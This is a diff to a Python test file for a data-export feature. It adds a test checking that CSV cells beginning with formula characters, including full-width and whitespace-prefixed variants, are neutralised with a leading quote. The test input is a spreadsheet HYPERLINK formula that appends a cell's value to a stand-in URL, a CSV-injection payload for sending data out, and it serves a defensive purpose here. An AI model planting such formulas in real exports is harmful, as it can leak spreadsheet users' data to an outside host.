@@ -13,7 +13,7 @@ from jsonschema import Draft202012Validator
 
 from bridge.db import ledger
 from bridge.moments import archive_ids, exporting
-from bridge.privacy.exporter import CONTEXT, EXTENSION
+from bridge.privacy.exporter import CONTEXT, EXTENSION, table
 from bridge.rights.archive import jobs
 from bridge.rights.archive.layout import ArchiveSettings
 from bridge.rights.archive.models import Files
@@ -175,6 +175,13 @@ class _Page(HTMLParser):
 
     def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
         self.tags.append((tag, dict(attrs)))
+
+
+@pytest.mark.parametrize("sign", [*"=+-@＝＋－＠", "\t=", "\n=", "\r="])
+def test_no_list_holds_a_formula(sign: str) -> None:
+    text = f'{sign}HYPERLINK("https://example.org/"&A1)'
+    [[cell]] = csv.reader(io.StringIO(table(["a"], [[text]]).decode().partition("\r\n")[2], newline=""))
+    assert cell == f"'{text}", "and nothing of it is lost"
 
 
 def test_pages_run_and_load_nothing(village: Village) -> None:
